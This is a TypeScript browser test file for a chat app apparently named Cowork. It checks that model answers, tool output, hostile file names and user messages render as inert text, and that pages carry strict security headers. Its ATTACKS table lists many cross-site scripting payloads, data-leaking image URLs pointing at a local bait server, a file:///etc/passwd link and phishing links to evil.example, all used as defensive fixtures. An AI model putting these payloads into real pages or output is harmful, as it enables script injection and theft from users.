// What a model writes is text: it makes no element that acts, runs nothing, and asks nobody for anything.
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import type { Desk } from './support/desk';
import { call, text, typed } from './support/model';
import { listen } from './support/port';
import { expect, test } from './support/test';

/** Attacks on whoever shows them; `BAIT` is a server that must never hear anything. */
const ATTACKS: Record<string, string> = {
  'raw HTML': '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'"><b onmouseover="alert(1)">bold</b>',
  'handlers': '<svg onload="document.title=\'owned\'"><animate onbegin="document.title=\'owned\'" attributeName=x dur=1s></svg><details open ontoggle="document.title=\'owned\'">x</details>',
  'images': '![a](BAIT/inline.png) ![b][ref] ![c](BAIT/title.png "t") <img src="BAIT/raw.png"> <picture><source srcset="BAIT/set.png"></picture>\n\n[ref]: BAIT/reference.png',
  'images that hold data': '![x](BAIT/leak.png?secret=1) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'frames and media': '<iframe src="BAIT/frame"></iframe><object data="BAIT/o"></object><embed src="BAIT/e"><video src="BAIT/v" autoplay></video><audio src="BAIT/a"></audio>',
  'styles': '<style>@import "BAIT/style.css"; body { background: url(BAIT/bg.png) }</style><div style="background:url(BAIT/div.png)">x</div><link rel=stylesheet href="BAIT/link.css">',
  'head elements': '<meta http-equiv="refresh" content="0;url=BAIT/refresh"><base href="BAIT/"><link rel="dns-prefetch" href="BAIT/"><link rel=preload as=image href="BAIT/p.png"><title>owned</title>',
  'forms': '<form action="BAIT/form"><input name=a autofocus onfocus="document.title=\'owned\'"><button>Send</button></form>',
  'svg and math': '<svg><use href="BAIT/use.svg#x"/><image href="BAIT/i.png"/><a href="javascript:alert(1)"><text>x</text></a></svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  'script links': '[a](javascript:document.title="owned") [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](data:text/html,<script>alert(1)</script>) [e](vbscript:x) <javascript:alert(1)> [f](file:///etc/passwd)',
  'hidden tags': '<scr<script>ipt>document.title="owned"</scr</script>ipt>\n\n<!-- --!><img src=x onerror=alert(1)> -->\n\n```"><img src=x onerror=alert(1)>\ncode\n```\n\n`<img src=x onerror=alert(1)>`',
  'links to follow': '[look](BAIT/link) <BAIT/auto> BAIT/bare [ref][r] [mail](mailto:x@evil.example)\n\n[r]: BAIT/reference',
  'tables': '| <img src=x onerror=alert(1)> | ![](BAIT/table.png) |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
};

/** Elements that text has no use for. */
const FORBIDDEN = 'script, img, picture, source, svg, math, iframe, frame, object, embed, video, audio, style, link, meta, base, title, form, input:not([type=checkbox]), button, [style], [srcset], [action], [autofocus]';

/** What an answer became: elements that should not be, attributes that act, and addresses that are not links to the web. */
async function dangers(desk: Desk): Promise<string[]> {
  return desk.page.locator('.prose').evaluateAll((answers, forbidden) => {
    const found: string[] = [];
    for (const answer of answers) {
      // The page's own copy button stands beside a block of code, never inside one.
      const own = (element: Element) => element.closest('.copy')?.parentElement?.matches('.block') ?? false;
      for (const element of answer.querySelectorAll(forbidden)) if (!own(element)) found.push(element.outerHTML);
      for (const element of answer.querySelectorAll('*')) {
        for (const { name, value } of element.attributes) {
          if (name.startsWith('on')) found.push(`${name}=${value}`);
          if (['href', 'src', 'xlink:href'].includes(name) && !/^(https?:|mailto:|#)/.test(value)) found.push(`${name}=${value}`);
        }
      }
    }
    return found;
  }, FORBIDDEN);
}

test.describe('hostile answers', () => {
  let bait: string;
  let heard: number;
  let close: () => void;

  test.beforeEach(async () => {
    heard = 0;
    const server = createServer((socket) => {
      heard += 1;
      socket.destroy();
    });
    bait = `http://127.0.0.1:${await listen(server)}`;
    close = () => server.close();
  });
  test.afterEach(() => {
    close();
    expect(heard, 'nobody was spoken to').toBe(0);
  });

  for (const [way, write] of Object.entries({ 'at once': (all: string) => [text(all)], 'character by character': typed })) {
    test(`make nothing but text, written ${way}`, async ({ desk, page, model }) => {
      await desk.openSession({ title: 'Safe' });
      for (const [name, attack] of Object.entries(ATTACKS)) {
        model.script(name, write(`Before.\n\n${attack.replaceAll('BAIT', bait)}\n\nAfter.`));
        await desk.ask(name);
        await expect(desk.lastTurn.locator('.prose'), name).toContainText('After.');
        expect(await dangers(desk), name).toEqual([]);
      }
      await desk.reload();
      await expect(desk.turns).toHaveCount(Object.keys(ATTACKS).length);
      expect(await dangers(desk)).toEqual([]);
      await expect(page, 'nothing ran').toHaveTitle('Safe · Cowork');
      expect(new URL(page.url()).pathname).toMatch(/^\/sessions\//);
    });
  }

  test('hostile file names and contents in tool calls', async ({ desk, workspace, model }) => {
    const name = '<img src=x onerror=alert(1)>.txt';
    writeFileSync(`${workspace.folder}/${name}`, `<script>document.title="owned"</script><img src="${bait}/file.png">`);
    model.script('Read', [call('read_file', { path: name }), call('list_directory', { path: '.' })], [text('Read.')]);
    await desk.openSession({ title: 'Safe' });
    await desk.ask('Read');
    await desk.lastTurn.locator('.call summary').first().click();
    const body = desk.lastTurn.locator('.call-body').first();
    await expect(body).toContainText('<script>document.title="owned"</script>');
    await expect(desk.lastTurn.locator('.call img, .call script')).toHaveCount(0);
    await expect(desk.page.locator('.logs img, .logs script')).toHaveCount(0);
  });

  test('a message of the person is text too', async ({ desk, model }) => {
    const hostile = `<img src="${bait}/me.png" onerror="document.title='owned'"> **not bold** [x](javascript:alert(1))`;
    model.script('not bold', [text('Seen.')]);
    await desk.openSession({ title: 'Safe' });
    await desk.ask(hostile);
    await expect(desk.lastTurn.locator('.bubble')).toHaveText(hostile);
    await expect(desk.lastTurn.locator('.bubble *')).toHaveCount(0);
  });
});

test('a link shows where it leads and leaves nothing of us behind', async ({ desk, model }) => {
  model.script('Links', [
    text(
      [
        '[your bank](https://evil.example/login)',
        '[https://good.example](https://evil.example/)',
        '[home](https://xn--80ak6aa92e.example/)',
        `[${'long '.repeat(400)}](https://long.example/)`,
        '<https://auto.example/path>',
        '[ref][r]\n\n[r]: https://ref.example/ "a title"',
      ].join('\n\n'),
    ),
  ]);
  await desk.openSession();
  await desk.ask('Links');
  const links = await desk.lastTurn.locator('.prose a').all();
  expect(links).toHaveLength(6);
  for (const link of links) {
    const host = new URL((await link.getAttribute('href'))!).host;
    const paragraph = link.locator('xpath=..');
    await expect(paragraph, 'the host can be read').toContainText(host);
    await expect(link).toHaveAttribute('target', '_blank');
    const rel = (await link.getAttribute('rel'))!.split(' ');
    expect(rel).toEqual(expect.arrayContaining(['noopener', 'noreferrer', 'nofollow']));
  }
  expect(await desk.page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
});

test('every page comes with a strict policy and a nonce of its own', async ({ desk, page, server }) => {
  const id = await desk.createSession();
  const nonces = new Set<string>();
  const paths = ['/', `/sessions/${id}`, `/sessions/${id}/live`, '/nowhere', '/'];
  for (const path of paths) {
    const answer = await page.request.get(server.origin + path, { headers: { accept: 'text/html' } });
    const policy = new Map(
      answer.headers()['content-security-policy'].split(';').map((rule) => {
        const [name, ...values] = rule.trim().split(' ');
        return [name, values] as const;
      }),
    );
    expect(policy.get('default-src'), path).toEqual(["'none'"]);
    for (const name of ['connect-src', 'form-action', 'font-src', 'frame-src']) expect(policy.get(name), name).toEqual(["'self'"]);
    for (const name of ['base-uri', 'object-src']) expect(policy.get(name), name).toEqual(["'none'"]);
    expect(policy.get('img-src')).toEqual(["'self'", 'data:']);
    expect(answer.headers()['content-security-policy']).not.toMatch(/unsafe-inline|'unsafe-eval'|\*/);
    const nonce = /'nonce-([\w-]{16,})'/.exec(policy.get('script-src')!.join(' '))![1];
    expect(policy.get('style-src')).toContain(`'nonce-${nonce}'`);
    nonces.add(nonce);
    const html = await answer.text();
    const scripts = html.match(/<script\b[^>]*>/g)!;
    for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`);
    expect(html, 'no inline styles or handlers').not.toMatch(/<[^>]+\s(style|on\w+)=/);
    expect(answer.headers()['x-content-type-options']).toBe('nosniff');
    expect(answer.headers()['referrer-policy']).toBe('same-origin');
    expect(answer.headers()['cache-control']).toBe('no-store');
  }
  expect(nonces.size).toBe(paths.length);
});
